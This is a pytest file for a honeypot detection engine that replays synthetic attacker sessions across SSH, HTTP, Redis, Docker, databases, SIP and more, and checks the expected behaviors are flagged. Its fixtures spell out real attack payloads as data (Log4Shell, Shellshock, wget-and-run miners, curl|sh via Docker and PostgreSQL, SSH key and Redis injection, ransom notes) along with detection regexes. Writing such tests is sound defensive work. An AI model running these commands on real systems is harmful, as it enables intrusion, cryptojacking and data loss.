"""The editorial engine: realistic sessions hit the behaviors an analyst expects."""

import random
import re
from collections.abc import Iterable
from fnmatch import fnmatchcase
from importlib import resources
from typing import Any

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sikker.builder.catalog import Catalog, Primitive, load_catalog, parse_catalog
from sikker.builder.engine import Engine, SessionMatch
from sikker.builder.fields import extract, http_request, is_relay
from sikker.builder.literals import analyse
from sikker.builder.matchers import ReferenceMatcher

CATALOG = load_catalog()
CATALOG_TEXT = (
    resources.files("sikker.builder").joinpath("data/catalog.toml").read_text("utf-8")
)
ENGINE = Engine(CATALOG)
ATTACKER = "45.155.205.7"
KEY = "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8 mdrfckr"


def ev(protocol: str, kind: str, **fields: Any) -> dict[str, Any]:
    """A normalised event of session ``s1`` from the attacker."""
    return {
        "ts": 1_790_000_000_000,
        "sensor": "fra-1",
        "session": "s1",
        "src_ip": ATTACKER,
        "protocol": protocol,
        "event": kind,
        **fields,
    }


def commands(protocol: str, *lines: str) -> list[dict[str, Any]]:
    return [ev(protocol, "command", command=line) for line in lines]


def logins(protocol: str, count: int, ok: bool = False, **fields: Any) -> list:
    kind = "login_success" if ok else "login_failed"
    return [
        ev(protocol, kind, username=fields.get("username", "root"), password=f"pw{i}")
        for i in range(count)
    ]


def request(protocol: str, method: str, path: str, **fields: Any) -> dict[str, Any]:
    return ev(protocol, "request", method=method, path=path, **fields)


def query(protocol: str, *texts: str) -> list[dict[str, Any]]:
    return [ev(protocol, "query", query=text) for text in texts]


def action(protocol: str, name: str, detail: str) -> dict[str, Any]:
    return ev(protocol, "action", action=name, detail=detail)


def behavior_ids(match: SessionMatch) -> set[str]:
    return {CATALOG.behaviors[b].id for b in match.behaviors}


def primitive_ids(match: SessionMatch) -> set[str]:
    return {CATALOG.primitives[p].id for p in match.primitives}


def run(protocol: str, events: Iterable[dict[str, Any]]) -> SessionMatch:
    match = ENGINE.session(protocol)
    match.extend(events)
    return match


# -- realistic sessions ---------------------------------------------------------------

SSH_LOGIN = [
    ev("ssh", "connect", dst_port=22, client_version="SSH-2.0-Go"),
    ev("ssh", "login_success", username="root", password="admin"),
]
SESSIONS: list[tuple[str, str, list[dict[str, Any]], set[str]]] = [
    (
        "ssh-outlaw-key-persistence",
        "ssh",
        SSH_LOGIN
        + commands(
            "ssh",
            "cd ~; chattr -ia .ssh; lockr -ia .ssh",
            f'cd ~ && rm -rf .ssh && mkdir .ssh && echo "{KEY}">>.ssh/authorized_keys'
            " && chmod -R go= ~/.ssh && cd ~",
        )
        + [ev("ssh", "close", duration_ms=5200)],
        {
            "ssh-key-persistence-chattr",
            "ssh-authorized-keys-write",
            "outlaw-ssh-key",
            "ssh-dir-replacement",
            "automated-ssh-client",
        },
    ),
    (
        "ssh-miner-host-fingerprinting",
        "ssh",
        SSH_LOGIN
        + commands(
            "ssh",
            "uname -a; cat /proc/cpuinfo | grep name | wc -l",
            "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
            "lspci | grep -i vga",
        ),
        {"host-fingerprinting", "system-info-discovery", "gpu-discovery"},
    ),
    (
        "ssh-miner-download-and-run",
        "ssh",
        SSH_LOGIN
        + commands(
            "ssh",
            "cd /tmp; wget http://198.51.100.7/xmrig; chmod +x xmrig; ./xmrig"
            " -o pool.supportxmr.com:443 --donate-level 1",
            "pkill -9 kdevtmpfsi; crontab -l",
        )
        + [ev("ssh", "file_download", url="http://198.51.100.7/xmrig")],
        {
            "cryptominer-download",
            "cryptominer-launch",
            "download-and-execute",
            "ingress-tool-transfer",
            "rival-miner-removal",
            "cron-persistence",
        },
    ),
    (
        "ssh-spam-tunnel",
        "ssh",
        [*SSH_LOGIN, ev("ssh", "tcpip_forward", target="smtp.gmail.com:25")],
        {"ssh-smtp-tunnel", "ssh-tcp-forwarding"},
    ),
    (
        "telnet-busybox-hex-stager",
        "telnet",
        [
            ev("telnet", "connect", dst_port=23),
            ev("telnet", "login_success", username="root", password="vizxv"),
            *commands(
                "telnet",
                "enable",
                "system",
                "shell",
                "sh",
                "/bin/busybox ECCHI",
                "cat /proc/mounts; /bin/busybox PEACH",
                r"echo -ne '\x7f\x45\x4c\x46\x01\x01\x01\x00\x00\x00' > .d;"
                " dd bs=52 count=1 if=.d",
            ),
        ],
        {
            "busybox-hex-echo-stager",
            "mirai-busybox-probe",
            "mirai-loader-recon",
            "telnet-shell-escape",
            "iot-default-credentials",
        },
    ),
    (
        "http-apache-cgi-traversal",
        "http",
        [
            request(
                "http",
                "POST",
                "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
                headers={"user-agent": "Mozilla/5.0"},
                body="echo Content-Type: text/plain; echo; cd /tmp; wget http://x/a.sh",
            )
        ],
        {"apache-cgi-path-traversal", "web-command-injection"},
    ),
    (
        "http-log4shell-header",
        "http",
        [
            request(
                "http",
                "GET",
                "/",
                headers={
                    "user-agent": "${jndi:ldap://198.51.100.7:1389/Exploit}",
                    "x-api-version": "${${lower:j}ndi:ldap://x/a}",
                },
            )
        ],
        {"log4shell-jndi-injection"},
    ),
    (
        "http-phpunit-and-secrets",
        "http",
        [
            request(
                "http",
                "POST",
                "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                body="<?php echo md5('phpunit');",
            ),
            request("http", "GET", "/.env", headers={"user-agent": "l9explore/1.2.2"}),
            request("http", "GET", "/.git/config"),
        ],
        {"phpunit-eval-stdin-rce", "secrets-file-probe", "web-vulnerability-scanner"},
    ),
    (
        "http-shellshock-and-proxy",
        "http",
        [
            request("http", "GET", "/", headers={"referer": "() { :; }; /bin/id"}),
            request("http", "CONNECT", "www.google.com:443"),
        ],
        {"shellshock", "open-proxy-probe"},
    ),
    (
        "redis-ssh-key-injection",
        "redis",
        query(
            "redis",
            "INFO",
            "CONFIG SET dir /root/.ssh",
            "CONFIG SET dbfilename authorized_keys",
            f'SET crackit "\\n\\n{KEY}\\n\\n"',
            "SAVE",
        ),
        {
            "redis-ssh-key-injection",
            "redis-config-file-write",
            "redis-recon",
        },
    ),
    (
        "redis-rogue-master",
        "redis",
        query(
            "redis",
            "SLAVEOF 198.51.100.7 21000",
            "MODULE LOAD /tmp/exp.so",
            "system.exec 'id'",
        ),
        {"redis-rogue-master", "redis-module-load"},
    ),
    (
        "docker-host-mount",
        "docker",
        [
            request("docker", "GET", "/v1.41/version"),
            request(
                "docker",
                "POST",
                "/v1.41/containers/create",
                headers={"content-type": "application/json"},
                body='{"Image":"alpine","Cmd":["chroot","/host","sh","-c",'
                '"curl -s http://x/d.sh|sh"],"HostConfig":{"Binds":["/:/host"]}}',
            ),
        ],
        {
            "docker-host-mount-container",
            "docker-container-deploy",
            "docker-downloader-container",
            "docker-api-recon",
        },
    ),
    (
        "elasticsearch-groovy-rce",
        "elasticsearch",
        [
            request("elasticsearch", "GET", "/_cat/indices"),
            request(
                "elasticsearch",
                "POST",
                "/_search?pretty",
                body='{"size":1,"script_fields":{"x":{"script":'
                '"java.lang.Math.class.forName(\\"java.lang.Runtime\\")'
                '.getRuntime().exec(\\"id\\")"}}}',
            ),
        ],
        {"elasticsearch-script-rce", "elasticsearch-enumeration"},
    ),
    (
        "mongodb-wipe-and-ransom",
        "mongodb",
        query(
            "mongodb",
            '{"listDatabases": 1, "$db": "admin"}',
            '{"find": "users", "filter": {}}',
            '{"dropDatabase": 1, "$db": "shop"}',
            '{"insert": "README", "documents": [{"content": "All your data is '
            'backed up. You must pay 0.01 BTC to recover it"}]}',
        ),
        {"mongodb-dump", "mongodb-wipe-ransom", "mongodb-recon"},
    ),
    (
        "mysql-brute-force-then-udf",
        "mysql",
        logins("mysql", 6)
        + query(
            "mysql",
            "SELECT @@version",
            "CREATE FUNCTION sys_eval RETURNS string SONAME 'lib_mysqludf_sys.so'",
        ),
        {"mysql-brute-force", "mysql-udf-or-outfile", "database-enumeration"},
    ),
    (
        "mssql-brute-force-then-xp-cmdshell",
        "mssql",
        logins("mssql", 5, username="sa")
        + query(
            "mssql",
            "EXEC sp_configure 'show advanced options', 1;RECONFIGURE;",
            "EXEC master..xp_cmdshell 'whoami'",
        ),
        {"mssql-brute-force", "mssql-xp-cmdshell"},
    ),
    (
        "postgresql-copy-program",
        "postgresql",
        [
            ev("postgresql", "login_success", username="postgres", password="postgres"),
            *query(
                "postgresql",
                "DROP TABLE IF EXISTS cmd_exec;CREATE TABLE cmd_exec(cmd_output text);",
                "COPY cmd_exec FROM PROGRAM 'echo Y3VybCBodHRw|base64 -d|bash'",
            ),
        ],
        {"postgresql-copy-program"},
    ),
    (
        "ftp-anonymous-webshell-upload",
        "ftp",
        [
            ev("ftp", "login_success", username="anonymous", password="a@b.c"),
            action("ftp", "ftp_command", "LIST -a"),
            action("ftp", "command", "STOR shell.php"),
            ev("ftp", "file_upload", filename="shell.php"),
        ],
        {"ftp-anonymous-upload", "ftp-script-upload", "ftp-anonymous-browse"},
    ),
    (
        "ftp-proftpd-mod-copy",
        "ftp",
        [
            action("ftp", "ftp_command", "SITE CPFR /etc/passwd"),
            action("ftp", "ftp_command", "SITE CPTO /var/www/html/p.txt"),
        ],
        {"proftpd-mod-copy"},
    ),
    (
        "smtp-open-relay-spam",
        "smtp",
        [
            ev(
                "smtp",
                "email",
                sender="test@probe.example",
                recipients=["victim@gmail.com"],
                subject="relay test",
                body="Please verify your account at http://x/login",
            )
        ],
        {"smtp-open-relay-test", "smtp-spam-relay", "smtp-phishing-content"},
    ),
    (
        "imap-credential-stuffing",
        "imap",
        [
            ev("imap", "login_failed", username=f"user{i}@example.org", password="p")
            for i in range(5)
        ]
        + [action("imap", "imap_command", "a1 LOGIN user0@example.org p")],
        {"imap-credential-stuffing", "imap-brute-force"},
    ),
    (
        "smb-eternalblue-and-shares",
        "smb",
        [
            action("smb", "negotiate", "NT LM 0.12"),
            action("smb", "smb_share", "\\\\192.0.2.1\\IPC$"),
            action("smb", "smb_command", "TRANS2_SESSION_SETUP"),
            action("smb", "rpc", "NetrShareEnum"),
        ],
        {"eternalblue-probe", "smb-share-enumeration", "smbv1-scan"},
    ),
    (
        "rtsp-camera-defaults",
        "rtsp",
        [
            request("rtsp", "DESCRIBE", "rtsp://192.0.2.1:554/Streaming/Channels/101"),
            ev("rtsp", "login_success", username="admin", password="12345"),
        ],
        {"rtsp-camera-credential-scan", "rtsp-stream-path-enumeration"},
    ),
    (
        "sip-register-scan",
        "sip",
        [
            request(
                "sip",
                "REGISTER",
                f"sip:{100 + i}@192.0.2.1",
                headers={"user-agent": "friendly-scanner"},
            )
            for i in range(12)
        ]
        + logins("sip", 5, username="100"),
        {
            "sip-extension-enumeration",
            "sip-scanner-tool",
            "sip-register-brute-force",
        },
    ),
    (
        "sip-toll-fraud",
        "sip",
        [request("sip", "INVITE", "sip:00972592345678@192.0.2.1")],
        {"sip-toll-fraud"},
    ),
]


@pytest.mark.parametrize(
    ("protocol", "events", "expected"),
    [s[1:] for s in SESSIONS],
    ids=[s[0] for s in SESSIONS],
)
def test_realistic_sessions_match_the_expected_behaviors(
    protocol: str, events: list[dict[str, Any]], expected: set[str]
) -> None:
    assert expected <= behavior_ids(run(protocol, events))


def test_the_sessions_cover_at_least_twelve_protocols() -> None:
    assert len({s[1] for s in SESSIONS}) >= 12


def test_benign_looking_sessions_match_no_severe_behavior() -> None:
    match = run(
        "ssh",
        [
            SSH_LOGIN[0],
            ev("ssh", "login_failed", username="admin", password="hunter2"),
            *commands("ssh", "ls -la", "cat /etc/idmapd.conf", "exit"),
        ],
    )
    assert not {b for b in match.behaviors if CATALOG.behaviors[b].level >= 3}


# -- counting, batches and persistence ------------------------------------------------


@pytest.mark.parametrize(
    ("protocol", "events"), [s[1:3] for s in SESSIONS], ids=[s[0] for s in SESSIONS]
)
def test_batches_and_restores_give_the_same_result_as_one_batch(
    protocol: str, events: list[dict[str, Any]]
) -> None:
    whole = run(protocol, events)
    rnd = random.Random(len(events))
    match = ENGINE.session(protocol)
    reported_p: list[int] = []
    reported_b: list[int] = []
    position = 0
    while position < len(events):
        size = rnd.randint(1, 3)
        new_p, new_b = match.extend(events[position : position + size])
        reported_p += new_p
        reported_b += new_b
        position += size
        state = orjson.loads(orjson.dumps(match.to_json()))
        match = ENGINE.restore(state)
    assert match.behaviors == whole.behaviors
    assert match.primitives == whole.primitives
    assert match.counts == whole.counts
    assert sorted(reported_b) == sorted(whole.behaviors)  # each exactly once
    assert sorted(reported_p) == sorted(whole.primitives)


REFERENCE = Engine(CATALOG, matcher=ReferenceMatcher)


@pytest.mark.parametrize(
    ("protocol", "events"), [s[1:3] for s in SESSIONS], ids=[s[0] for s in SESSIONS]
)
def test_sessions_match_alike_with_the_naive_reference_matcher(
    protocol: str, events: list[dict[str, Any]]
) -> None:
    ours, reference = ENGINE.session(protocol), REFERENCE.session(protocol)
    assert ours.extend(events) == reference.extend(events)
    assert ours.to_json() == reference.to_json()


def test_newly_matched_entries_are_reported_once() -> None:
    match = ENGINE.session("ssh")
    line = ev("ssh", "command", command="cat /etc/shadow")
    new_p, new_b = match.add(line)
    assert {CATALOG.behaviors[b].id for b in new_b} == {"shadow-file-access"}
    assert {CATALOG.primitives[p].id for p in new_p} == {"cmd-etc-shadow"}
    assert match.add(line) == (set(), set())
    assert match.counts[CATALOG.primitive_index("cmd-etc-shadow")] == 2


@pytest.mark.parametrize("failures", [4, 5, 6])
def test_min_count_is_reached_exactly_at_its_boundary(failures: int) -> None:
    burst = CATALOG.primitive_index("auth-failure-burst")
    brute = CATALOG.behavior_index("mysql-brute-force")
    match = ENGINE.session("mysql")
    reported_at = [
        i for i, login in enumerate(logins("mysql", failures), 1) if match.add(login)[1]
    ]
    assert (brute in match.behaviors) == (failures >= 5)
    assert (burst in match.primitives) == (failures >= 5)
    assert reported_at == ([5] if failures >= 5 else [])
    assert match.counts[burst] == failures


def test_sip_extension_enumeration_needs_ten_numeric_extensions() -> None:
    def scan(count: int) -> set[str]:
        return behavior_ids(
            run(
                "sip",
                [
                    request("sip", "REGISTER", f"sip:{200 + i}@192.0.2.1")
                    for i in range(count)
                ],
            )
        )

    assert "sip-extension-enumeration" not in scan(9)
    assert "sip-extension-enumeration" in scan(10)


def test_restored_state_is_plain_json_named_by_id() -> None:
    match = run("ssh", SESSIONS[0][2][:3])
    state = match.to_json()
    assert orjson.loads(orjson.dumps(state)) == state
    assert state["protocol"] == "ssh"
    assert "cmd-chattr-unlock" in state["counts"]
    assert "automated-ssh-client" in state["behaviors"]
    restored = ENGINE.restore(state)
    assert restored.to_json() == state
    assert restored.add(ev("ssh", "command", command="uname")) == (set(), set())


def test_a_restored_state_reports_what_a_new_catalog_adds() -> None:
    match = run("ssh", commands("ssh", "uname -a"))
    state = match.to_json() | {"counts": {**match.to_json()["counts"], "gone": 3}}
    extra = (
        "\n[[behavior]]\nid = 'uname-only'\nname = 'uname'\ndescription = 'x'\n"
        "severity = 'low'\nprotocols = ['ssh']\nmitre = ['T1082']\n"
        "all = ['cmd-uname-all']\n"
    )
    text = CATALOG_TEXT + extra
    engine = Engine(parse_catalog(text))
    restored = engine.restore(state)
    new_p, new_b = restored.add(ev("ssh", "command", command="ls"))
    assert {engine.catalog.behaviors[b].id for b in new_b} == {"uname-only"}
    assert new_p == set()
    assert restored.add(ev("ssh", "command", command="ls")) == (set(), set())


def test_restore_rejects_what_is_not_a_saved_state() -> None:
    with pytest.raises(ValueError, match="session match state"):
        ENGINE.restore({"protocol": "ssh"})
    with pytest.raises(ValueError, match="unknown protocol 'gopher'"):
        ENGINE.restore({"v": 1, "protocol": "gopher"})
    with pytest.raises(ValueError, match="unknown protocol"):
        ENGINE.session("gopher")


# -- protocol scoping and session-level actions ---------------------------------------


def test_primitives_only_fire_on_their_own_protocols() -> None:
    assert ENGINE.match_value("ssh", "http_path", "/.env") == ()
    assert ENGINE.match_value("http", "command", "cat /etc/shadow") == ()
    assert ENGINE.match_value("http", "http_path", "/.env") == (
        CATALOG.primitive_index("http-env-file"),
    )
    match = run(
        "ssh",
        [
            ev("ssh", "command", command="curl 'http://x/?q=${jndi:ldap://x/a}'"),
            request("ssh", "GET", "/.env"),
        ],
    )
    assert all(CATALOG.primitives[p].field == "command" for p in match.primitives)
    assert not behavior_ids(match) & {"log4shell-jndi-injection", "secrets-file-probe"}
    telnet_only = CATALOG.behavior_index("telnet-shell-escape")
    assert telnet_only not in run("ssh", commands("ssh", "enable")).behaviors
    assert telnet_only in run("telnet", commands("telnet", "enable")).behaviors


@pytest.mark.parametrize("protocol", ["ssh", "http", "docker", "sip", "redis"])
def test_a_bare_connection_is_connect_only_when_it_closes(protocol: str) -> None:
    probe = CATALOG.behavior_index("connect-only-probe")
    match = ENGINE.session(protocol)
    assert match.add(ev(protocol, "connect", dst_port=1)) == (set(), set())
    assert probe not in match.behaviors
    _, new_b = match.add(ev(protocol, "close", duration_ms=120))
    assert probe in new_b
    assert match.add(ev(protocol, "close")) == (set(), set())


def test_any_payload_or_evidence_action_prevents_connect_only() -> None:
    probe = CATALOG.behavior_index("connect-only-probe")
    quiet = run(
        "ssh",
        [
            ev("ssh", "connect"),
            action("ssh", "ssh_kex", "4c94058d5e9e31659879f79fd5b46084"),
            ev("ssh", "close"),
        ],
    )
    assert probe in quiet.behaviors
    for events in (
        [ev("ssh", "login_failed", username="root", password="x")],
        [ev("http", "request", method="GET", path="/")],
        [action("smb", "smb_share", "IPC$")],
        [ev("redis", "query", query="PING")],
    ):
        protocol = events[0]["protocol"]
        match = run(protocol, [ev(protocol, "connect"), *events, ev(protocol, "close")])
        assert probe not in match.behaviors, events


def test_relay_attempts_depend_on_the_local_domains() -> None:
    mail = ev(
        "smtp",
        "email",
        sender="a@b.example",
        recipients=["Bob <bob@Mail.Example.ORG>"],
        body="hi",
    )
    relay = CATALOG.behavior_index("smtp-open-relay-test")
    assert relay in run("smtp", [mail]).behaviors
    local = Engine(CATALOG, local_domains=["mail.example.org."]).session("smtp")
    local.add(mail)
    assert relay not in local.behaviors
    assert not is_relay(["postmaster"], frozenset())
    assert is_relay(["postmaster", "x@[192.0.2.1]"], frozenset())


# -- field extraction -----------------------------------------------------------------


def test_an_http_request_yields_every_http_field() -> None:
    event = request(
        "http",
        "POST",
        "/login?x=1",
        headers={"host": "example.org", "user-agent": "curl/8.0"},
        body="a=b",
    )
    pairs = extract(event)
    assert pairs == [
        ("http_method", "POST"),
        ("http_user_agent", "curl/8.0"),
        ("http_header", "host: example.org"),
        ("http_header", "user-agent: curl/8.0"),
        ("http_path", "/login?x=1"),
        ("http_body", "a=b"),
        (
            "http_request",
            "POST /login?x=1\r\nhost: example.org\r\nuser-agent: curl/8.0\r\n\r\na=b",
        ),
    ]
    assert "http_request" not in {f for f, _ in extract(event, wanted={"http_path"})}
    assert http_request(None, "/", {}, None) == "/\r\n\r\n"


@pytest.mark.parametrize(
    ("event", "expected"),
    [
        (
            ev("ssh", "login_failed", username="admin", password=""),
            [
                ("action", "login_failed"),
                ("username", "admin"),
                ("password", ""),
                ("credential", "admin:"),
            ],
        ),
        (
            ev("ssh", "login_failed", username="root", fingerprint="aa:bb"),
            [("action", "login_failed"), ("username", "root")],
        ),
        (
            ev("ssh", "connect", dst_port=22, client_version="SSH-2.0-Go"),
            [("action", "connect"), ("client_version", "SSH-2.0-Go")],
        ),
        (
            request("rtsp", "OPTIONS", "rtsp://192.0.2.1:554/live.sdp"),
            [("rtsp_method", "OPTIONS"), ("rtsp_path", "/live.sdp")],
        ),
        (
            request("sip", "OPTIONS", "sip:100@192.0.2.1", headers={"user-agent": "x"}),
            [
                ("sip_method", "OPTIONS"),
                ("sip_uri", "sip:100@192.0.2.1"),
                ("sip_user_agent", "x"),
            ],
        ),
        (
            request("docker", "GET", "/v1.24/containers/json?all=1"),
            [
                ("http_method", "GET"),
                ("docker_api_path", "/v1.24/containers/json?all=1"),
            ],
        ),
        (
            ev("mysql", "query", query="SHOW DATABASES"),
            [("sql_query", "SHOW DATABASES")],
        ),
        (ev("redis", "query", query="FLUSHALL"), [("redis_command", "FLUSHALL")]),
        (
            ev("mongodb", "query", query="listDatabases"),
            [("mongodb_command", "listDatabases")],
        ),
        (
            ev("mongodb", "query", query='{"insert": "x", "documents": [{"a": 1}]}'),
            [("mongodb_command", "insert"), ("mongodb_document", '{"a":1}')],
        ),
        (
            ev("ssh", "file_download", url="http://x/bins/x86"),
            [("action", "file_download"), ("download_url", "http://x/bins/x86")],
        ),
        (
            ev("ssh", "tcpip_forward", target="[2001:db8::1]:587"),
            [("action", "tcpip_forward"), ("forward_target", "[2001:db8::1]:587")],
        ),
        (
            ev("ssh", "password_change", username="root"),
            [("action", "password_change")],
        ),
        (action("smb", "smb_file_open", "ADMIN$/x.exe"), [("smb_share", "ADMIN$")]),
        (
            action("imap", "command", "a1 SELECT INBOX"),
            [("imap_command", "a1 SELECT INBOX")],
        ),
        (
            action("smtp", "relay_attempt", "550 relaying denied"),
            [("action", "relay_attempt")],
        ),
        (action("ssh", "stdin", "anything"), []),
        (action("ftp", "smb_share", "IPC$"), [("smb_share", "IPC$")]),
        (ev("ssh", "close", duration_ms=1), []),
        (
            ev("smtp", "email", sender="a@x", recipients=["b@y.example"]),
            [
                ("smtp_sender", "a@x"),
                ("smtp_recipient", "b@y.example"),
                ("smtp_command", "MAIL FROM:<a@x>"),
                ("smtp_command", "RCPT TO:<b@y.example>"),
                ("action", "relay_attempt"),
            ],
        ),
        (
            ev("imap", "email", sender="a@x", recipients=["b@y.example"], body="x"),
            [
                ("smtp_sender", "a@x"),
                ("smtp_recipient", "b@y.example"),
                ("smtp_body", "x"),
            ],
        ),
    ],
    ids=lambda value: value["event"] if isinstance(value, dict) else None,
)
def test_each_event_type_maps_to_its_evidence_fields(
    event: dict[str, Any], expected: list[tuple[str, str]]
) -> None:
    assert extract(event) == expected


def test_every_extracted_field_is_a_catalog_field() -> None:
    from sikker.builder.catalog import FIELDS

    fields = {f for s in SESSIONS for e in s[2] for f, _ in extract(e)}
    assert fields <= set(FIELDS)
    assert len(fields) >= 25


# -- compiled matching agrees with a naive reference ----------------------------------


def naive(primitive: Primitive, value: str) -> bool:
    """The documented semantics, one primitive at a time."""
    pattern = primitive.pattern
    if primitive.match == "regex":
        return re.search(pattern, value) is not None
    if primitive.match == "contains":
        return pattern in value
    if primitive.match == "equals":
        return value == pattern
    if primitive.match == "prefix":
        return value.startswith(pattern)
    return fnmatchcase(value, pattern)


def naive_match(catalog: Catalog, protocol: str, field: str, value: str) -> tuple:
    return tuple(
        i
        for i, p in enumerate(catalog.primitives)
        if p.field == field and protocol in p.protocols and naive(p, value)
    )


def fragments(primitives: Iterable[Primitive]) -> list[str]:
    """Pieces likely to make values match: needles, patterns' words, samples."""
    pieces = {"", " ", "/", ";", "|", "-a", "\n", "K", "\u212a", "\u017f", "İ", "é"}
    for primitive in primitives:
        if primitive.match == "regex":
            found = analyse(primitive.pattern).needles or frozenset()
            pieces |= found | {n.upper() for n in found}
            pieces |= set(re.findall(r"[A-Za-z_./$@:%]{2,}", primitive.pattern))
        else:
            pieces |= {primitive.pattern, primitive.pattern[:3]}
    return sorted(pieces)


GROUPS = sorted({(proto, p.field) for p in CATALOG.primitives for proto in p.protocols})
UNCACHED = Engine(CATALOG, cache_size=0)


def group_values(pieces: list[str]) -> st.SearchStrategy[str]:
    """Values made of the group's fragments and arbitrary text."""
    parts = st.one_of(st.sampled_from(pieces), st.text(max_size=6))
    return st.lists(parts, max_size=8).map("".join)


@pytest.mark.parametrize(
    ("protocol", "field"), GROUPS, ids=[f"{p}-{f}" for p, f in GROUPS]
)
def test_compiled_matching_agrees_with_naive_matching(
    protocol: str, field: str
) -> None:
    group = [
        p for p in CATALOG.primitives if p.field == field and protocol in p.protocols
    ]
    pieces = fragments(group)

    def agree(value: str) -> None:
        expected = naive_match(CATALOG, protocol, field, value)
        assert UNCACHED.match_value(protocol, field, value) == expected, value
        assert ENGINE.match_value(protocol, field, value) == expected, value

    # Many cheap seeded values, then hypothesis for the odd cases and shrinking.
    rnd = random.Random(f"{protocol}/{field}")
    for _ in range(300):
        agree("".join(rnd.choice(pieces) for _ in range(rnd.randint(0, 8))))
    given(group_values(pieces))(settings(max_examples=30, deadline=None)(agree))()


TRICKY = """
[[primitive]]
id = "p-kelvin"
description = "x"
protocols = ["ssh"]
field = "command"
match = "regex"
pattern = '(?i)\\bkill\\s'

[[primitive]]
id = "p-scoped"
description = "x"
protocols = ["ssh"]
field = "command"
match = "regex"
pattern = 'ab(?i:cd)|(?i:XY)z'

[[primitive]]
id = "p-leading"
description = "x"
protocols = ["ssh"]
field = "command"
match = "regex"
pattern = '(?:wget|curl)\\b.*\\bsh$|^id$'

[[primitive]]
id = "p-glob"
description = "x"
protocols = ["ssh"]
field = "command"
match = "glob"
pattern = '*busy[bB]ox ?*'

[[primitive]]
id = "p-prefix"
description = "x"
protocols = ["ssh"]
field = "command"
match = "prefix"
pattern = 'cd /tmp'

[[primitive]]
id = "p-equals"
description = "x"
protocols = ["ssh"]
field = "command"
match = "equals"
pattern = 'sh'

[[primitive]]
id = "p-contains"
description = "x"
protocols = ["ssh"]
field = "command"
match = "contains"
pattern = 'Sh'

[[primitive]]
id = "p-literal-icase"
description = "x"
protocols = ["ssh"]
field = "command"
match = "regex"
pattern = '(?i)ssh'

[[behavior]]
id = "b"
name = "b"
description = "b"
severity = "low"
protocols = ["ssh"]
mitre = ["T1082"]
any = ["p-kelvin", "p-scoped", "p-leading", "p-glob", "p-prefix", "p-equals",
       "p-contains", "p-literal-icase"]
"""
TRICKY_CATALOG = parse_catalog(TRICKY)
TRICKY_ENGINE = Engine(TRICKY_CATALOG, cache_size=0)
TRICKY_PIECES = [
    "kill", "KILL", "\u212aill", "ki", " ", "ab", "cd", "CD", "xy", "XY", "z",
    "wget", "curl", "sh", "Sh", "SH", "\u017fh", "s\u017fh", "id", "\n", "busybox",
    "busyBox ", "cd /tmp", "/", "é", "İ", "-",
]  # fmt: skip


@given(
    st.lists(
        st.one_of(st.sampled_from(TRICKY_PIECES), st.text(max_size=3)), max_size=7
    ).map("".join)
)
def test_needles_are_sound_for_case_folding_scoped_flags_and_globs(value: str) -> None:
    expected = naive_match(TRICKY_CATALOG, "ssh", "command", value)
    assert TRICKY_ENGINE.match_value("ssh", "command", value) == expected


@pytest.mark.parametrize(
    ("pattern", "needles", "leading"),
    [
        (r"\bchattr\s+-[a-zA-Z]*[ia]", {"chattr"}, True),
        (
            r"(?i)\bxmrig\b|--donate-level|stratum\+(?:tcp|ssl)://",
            {"xmrig", "--donate-level", "stratum+"},
            True,
        ),
        (r"(?:^|[;&|]\s*)(?:whoami|id|w)\s*(?:$|[;&|])", {"id", "w"}, False),
        (r"\b(?:pkill|killall|kill\s+-9)\b[^;&]*\bxmrig", {"pkill", "kill"}, True),
        (r"(?i)^config\s+set\s+dir\s+\S+", {"config"}, True),
        (r"[a-z]+", None, False),
    ],
)
def test_needles_are_what_every_match_contains(
    pattern: str, needles: set[str] | None, leading: bool
) -> None:
    found = analyse(pattern)
    assert found.needles == (None if needles is None else frozenset(needles))
    assert found.leading == leading
